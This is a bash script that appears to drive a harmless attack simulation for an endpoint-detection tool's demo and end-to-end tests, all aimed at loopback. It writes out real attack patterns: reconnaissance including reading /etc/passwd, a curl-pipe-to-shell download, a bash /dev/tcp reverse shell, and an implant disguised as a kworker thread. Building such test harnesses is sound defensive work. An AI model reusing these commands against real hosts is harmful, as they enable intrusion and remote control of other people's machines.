#!/usr/bin/env bash
# A harmless attack simulation for the demo and the end-to-end tests. Every
# step is real (real processes, a real download over loopback, a real
# connection attempt), and nothing leaves this machine:
#   1. reconnaissance commands
#   2. a script downloaded from a loopback web server, piped into a shell
#   3. a reverse-shell attempt to a loopback port that nothing serves
#   4. an executable hidden in /tmp
#   5. a long-running "implant" (a copy of sleep named like a kernel thread)
# Prints "implant-pid <pid>" on stdout, then stays the implant's parent until
# the implant ends (killed by the response path, or after an hour), so that
# the parent chain is real and the killed implant is reaped.
set -u
work=${SIM_DIR:-/tmp/.yamori-sim}
port=${SIM_HTTP_PORT:-$((20000 + RANDOM % 40000))}
shell_port=${SIM_SHELL_PORT:-4444}

rm -rf "$work"
mkdir -p "$work/www"

echo "sim: 1. reconnaissance" >&2
whoami >/dev/null
id >/dev/null
uname -a >/dev/null
hostname >/dev/null
cat /etc/passwd >/dev/null
ps aux >/dev/null

echo "sim: 2. download and pipe into a shell (http://127.0.0.1:$port/stage2.sh)" >&2
cat >"$work/www/stage2.sh" <<'SH'
echo "stage2: harmless payload ran as $(id -un) on $(uname -n)"
SH
python3 -m http.server "$port" --bind 127.0.0.1 --directory "$work/www" >/dev/null 2>&1 &
httpd=$!
for _ in $(seq 1 50); do
	curl -s -o /dev/null "http://127.0.0.1:$port/stage2.sh" && break
	sleep 0.1
done
bash -c "curl -s http://127.0.0.1:$port/stage2.sh | sh" >&2
kill "$httpd" 2>/dev/null
wait "$httpd" 2>/dev/null

echo "sim: 3. reverse shell attempt to 127.0.0.1:$shell_port (nothing listens)" >&2
timeout 5 bash -c "bash -i >& /dev/tcp/127.0.0.1/$shell_port 0>&1" 2>/dev/null

echo "sim: 4. executable hidden in /tmp" >&2
mkdir -p "$work/.cache"
cp /usr/bin/true "$work/.cache/update-check"
"$work/.cache/update-check"

echo "sim: 5. implant: a long-running copy of sleep named kworker" >&2
cp /usr/bin/sleep "$work/.cache/kworker"
"$work/.cache/kworker" 3600 >/dev/null 2>&1 </dev/null &
implant=$!
echo "implant-pid $implant"
wait "$implant"
st=$?
echo "sim: implant ended with status $st$([ $st -eq 137 ] && echo ' (SIGKILL)')" >&2
rm -rf "$work"
exit 0
